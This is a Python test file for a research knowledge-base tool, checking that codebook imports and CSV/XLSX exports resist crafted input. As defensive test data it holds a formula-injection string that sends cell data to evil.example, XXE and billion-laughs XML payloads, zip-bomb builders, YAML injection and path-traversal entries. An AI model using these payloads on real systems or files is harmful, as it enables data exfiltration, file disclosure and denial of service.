"""Files from outside are data, never structure (issue 15 §3, §4).

- a crafted .qdc cannot add anything to codebook.yaml but its codes, as quoted YAML values;
- `kb import-codebook` shows the diff and writes only with --yes (or after a yes at the prompt);
- archives are capped on what they decompress to (zip bombs are refused without inflating them),
  XML with DTDs/entities is refused, manifest paths stay inside the corpus folder;
- CSV/XLSX exports neutralise formula-like cells; kb.read_export gives the original text back.
"""

from __future__ import annotations

import json
import random
import shutil
import tracemalloc
import zipfile
from pathlib import Path

import docx
import openpyxl
import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from kb.cli.main import app
from kb.corpus.manifest import load_manifest
from kb.errors import BadImportFile, CodebookImportError, CorpusMissing
from kb.exchange.codebook_import import import_codebook
from kb.exchange.export import export
from kb.exchange.ingest import add_files
from kb.exchange.refiqda import NS_CODEBOOK, NS_PROJECT, read_qdpx
from kb.exchange.safezip import ZipLimits
from kb.exchange.spreadsheet import neutralise, read_export, restore
from kb.store.kbase import get_kb

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'
CASE = dict(
    case="seoul_interview", case_name="서울시 면담", group="domestic", platform_type="policy_proposal"
)


def _codebook(tmp_path: Path, kb_settings) -> Path:
    target = tmp_path / "codebook.yaml"
    shutil.copy(kb_settings.codebook_path, target)
    return target


def _qdc(path: Path, origin: str, name: str, description: str) -> Path:
    from xml.sax.saxutils import quoteattr

    path.write_text(
        f'<?xml version="1.0" encoding="utf-8"?>\n<CodeBook xmlns="{NS_CODEBOOK}" origin={quoteattr(origin)}>'
        f'<Codes><Code guid="5c2a0c1e-0000-4000-8000-000000000001" name={quoteattr(name)} isCodable="true">'
        f"<Description>{description}</Description></Code></Codes></CodeBook>",
        encoding="utf-8",
    )
    return path


def test_crafted_qdc_cannot_rewrite_the_codebook(tmp_path, kb_settings):
    target = _codebook(tmp_path, kb_settings)
    before = yaml.safe_load(target.read_text(encoding="utf-8"))
    inject = "\ncategories:\n- id: pwned\n  dimension: other\n"
    qdc = _qdc(
        tmp_path / "evil.qdc",
        origin="QualCoder" + inject,
        name="주민 신뢰" + inject,
        description="정의&#10;version: 99&#10;polarity_cues: {}",
    )
    report = import_codebook(qdc, target)
    after = yaml.safe_load(target.read_text(encoding="utf-8"))
    assert [c["id"] for c in after["categories"]] == [c["id"] for c in before["categories"]] + [
        report.added[0]["id"]
    ]
    assert {k: v for k, v in after.items() if k != "categories"} == {
        k: v for k, v in before.items() if k != "categories"
    }
    new = after["categories"][-1]
    assert "\n" not in new["label_ko"] and new["label_ko"].startswith("주민 신뢰 categories:")
    assert new["definition"] == "정의\nversion: 99\npolarity_cues: {}"  # text, not structure
    assert "pwned" not in {c["id"] for c in after["categories"]}
    assert "\n" not in new["notes"]


def test_merge_refuses_anything_but_appended_entries(tmp_path, kb_settings):
    from kb.exchange.codebook_import import merged_yaml

    text = _codebook(tmp_path, kb_settings).read_text(encoding="utf-8")
    start = text.index("\ncategories:") + 1  # the last top-level key of the file
    deeper = text[:start] + text[start:].replace("\n", "\n  ").rstrip() + "\n"  # list items 2 deeper
    assert yaml.safe_load(deeper) == yaml.safe_load(text)
    with pytest.raises(CodebookImportError):
        merged_yaml(deeper, [{"id": "x", "dimension": "other"}])


def test_cli_shows_diff_and_needs_yes(tmp_path, kb_settings):
    target = _codebook(tmp_path, kb_settings)
    before = target.read_bytes()
    qdc = _qdc(tmp_path / "new.qdc", "MAXQDA", "주민 신뢰", "주민이 플랫폼을 믿는 정도")
    run = CliRunner().invoke
    dry = run(app, ["import-codebook", str(qdc), "-o", str(target), "--dry-run"])
    assert dry.exit_code == 0 and "+  - id: imported_" in dry.stdout and "주민 신뢰" in dry.stdout
    assert target.read_bytes() == before
    refused = run(app, ["import-codebook", str(qdc), "-o", str(target)], input="")
    assert refused.exit_code == 1 and "--yes" in refused.stderr and "Traceback" not in refused.output
    assert target.read_bytes() == before
    done = run(app, ["import-codebook", str(qdc), "-o", str(target), "--yes"])
    assert done.exit_code == 0, done.output
    assert "주민 신뢰" in target.read_text(encoding="utf-8")


def test_xml_entities_and_dtds_are_refused(tmp_path, kb_settings):
    target = _codebook(tmp_path, kb_settings)
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
        f'<CodeBook xmlns="{NS_CODEBOOK}"><Codes><Code name="&b;" guid="x"/></Codes></CodeBook>'
    )
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<CodeBook xmlns="{NS_CODEBOOK}"><Codes><Code name="&x;" guid="x"/></Codes></CodeBook>'
    )
    deep = (
        f'<CodeBook xmlns="{NS_CODEBOOK}"><Codes>'
        + "<Code name='x'>" * 500
        + "</Code>" * 500
        + "</Codes></CodeBook>"
    )
    for name, text in (("laughs.qdc", laughs), ("xxe.qdc", xxe), ("deep.qdc", deep)):
        (tmp_path / name).write_text(text, encoding="utf-8")
        with pytest.raises(CodebookImportError):
            import_codebook(tmp_path / name, target)
    assert target.read_bytes() == kb_settings.codebook_path.read_bytes()


def _bomb(path: Path, member: str, mb: int, head: bytes = b"", tail: bytes = b"") -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open(member, "w", force_zip64=True) as fh:
            fh.write(head)
            block = b" " * (1 << 20)
            for _ in range(mb):
                fh.write(block)
            fh.write(tail)
    return path


def test_zip_bomb_qdpx_is_refused_without_inflating(tmp_path, kb_settings):
    head = f'<?xml version="1.0"?><Project xmlns="{NS_PROJECT}" name="b"><CodeBook><Codes>'.encode()
    bomb = _bomb(tmp_path / "bomb.qdpx", "project.qde", 100, head, b"</Codes></CodeBook></Project>")
    assert bomb.stat().st_size < 1024 * 1024
    target = _codebook(tmp_path, kb_settings)
    tracemalloc.start()
    try:
        with pytest.raises(CodebookImportError, match="zip bomb|decompresses"):
            import_codebook(bomb, target)
        with pytest.raises(BadImportFile):
            read_qdpx(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 40 * 1024 * 1024


def test_streamed_cap_holds_when_sizes_lie(tmp_path):
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("x.xml", random.Random(0).randbytes(2 << 20))  # incompressible: passes the ratio check
    with ZipLimits(path, BadImportFile) as z:
        with pytest.raises(BadImportFile, match="more than 1 MB"):
            z.read("x.xml", cap=1024 * 1024)
    with ZipLimits(path, BadImportFile, total=1024 * 1024) as z:
        with pytest.raises(BadImportFile):
            z.scan()


def test_docx_bomb_is_skipped_and_nothing_written(tmp_path):
    good = tmp_path / "good.docx"
    d = docx.Document()
    d.add_paragraph("응답자: 예산이 부족했습니다.")
    d.save(good)
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                dst.writestr(info, src.read(info))
    _append_member(bomb, "word/document.xml", 20)
    corpus = tmp_path / "corpus"
    results = add_files([bomb], corpus, **CASE)
    assert results[0].status == "skipped" and "zip bomb" in results[0].reason
    assert not corpus.exists() or not any(corpus.rglob("*"))


def _append_member(path: Path, member: str, mb: int) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open(member, "w", force_zip64=True) as fh:
            for _ in range(mb):
                fh.write(b"<w:p/>" * (1 << 18))


def test_manifest_paths_stay_inside_the_corpus(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("기밀", encoding="utf-8")
    header = "doc_id,case,text_file,blocks_file\n"
    for bad in ("../secret.txt", str(secret), "docs/../../secret.txt"):
        (corpus / "manifest.csv").write_text(header + f"d1,c,{bad},docs/d1.blocks.jsonl\n", encoding="utf-8")
        with pytest.raises(CorpusMissing, match="outside the corpus folder"):
            load_manifest(corpus)
        with pytest.raises(CorpusMissing):
            add_files([secret], corpus, **CASE)
    (corpus / "docs").mkdir()
    (corpus / "docs" / "link.txt").symlink_to(secret)
    (corpus / "manifest.csv").write_text(
        header + "d1,c,docs/link.txt,docs/d1.blocks.jsonl\n", encoding="utf-8"
    )
    with pytest.raises(CorpusMissing, match="outside"):
        load_manifest(corpus)
    (corpus / "manifest.csv").write_bytes(b"doc_id,text_file\n\xff\xfe\n")
    with pytest.raises(CorpusMissing, match="UTF-8"):
        load_manifest(corpus)


# ---- spreadsheet-safe exports ---------------------------------------------------------------
@pytest.mark.parametrize(
    "text", [EVIL, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+x", "'plain", "보통 텍스트", "a=1"]
)
def test_neutralise_round_trips(text):
    safe = neutralise(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(safe) == text


@pytest.fixture(scope="module")
def evil_kb(kb_settings, tmp_path_factory):
    """A copy of the small KB with a review by a coder named like a formula."""
    from kb.review.decisions import open_store

    root = tmp_path_factory.mktemp("evil")
    shutil.copytree(kb_settings.data_dir, root / "data")
    shutil.copytree(kb_settings.corpus_dir, root / "corpus")
    settings = kb_settings.with_overrides(data_dir=root / "data", corpus_dir=root / "corpus")
    kb = get_kb(settings)
    p = next(p for p in kb.passages if p["doc_id"] == "london_talk_london")
    open_store(settings.reviews_db).record(EVIL, p["id"], p["text_hash"], "leadership", "add",
                                           polarity="success", memo="-2+3 @cmd")  # fmt: skip
    return get_kb(settings)


def test_csv_and_xlsx_exports_are_neutralised(evil_kb, tmp_path):
    df = export(evil_kb, "csv", path=tmp_path / "x.csv")
    assert EVIL in set(df["reviewer"])
    raw = pd.read_csv(tmp_path / "x.csv", encoding="utf-8-sig")
    assert "'" + EVIL in set(raw["reviewer"]) and "'-2+3 @cmd" in set(raw["memo"])
    back = read_export(tmp_path / "x.csv")
    assert EVIL in set(back["reviewer"]) and "-2+3 @cmd" in set(back["memo"])

    export(evil_kb, "xlsx", path=tmp_path / "x.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    hits = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
    assert hits and all(c.value == "'" + EVIL and c.data_type == "s" for c in hits)
    assert EVIL in set(read_export(tmp_path / "x.xlsx", sheet="excerpts")["reviewer"])
    assert EVIL in set(read_export(tmp_path / "x.xlsx")["reviewer"])  # the rows are the first sheet

    export(evil_kb, "jsonl", path=tmp_path / "x.jsonl")  # data formats stay raw
    recs = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()]
    assert any(c["reviewer"] == EVIL for r in recs for c in r["codes"])


def test_csv_bytes_neutralises():
    from kb.exchange.spreadsheet import csv_bytes

    data = csv_bytes(pd.DataFrame({"text": [EVIL, "-1", "보통"]}), bom=False).decode("utf-8")
    assert data.splitlines()[1:] == ['"\'=HYPERLINK(""http://evil.example/?x=""&A1,""클릭"")"', "'-1", "보통"]
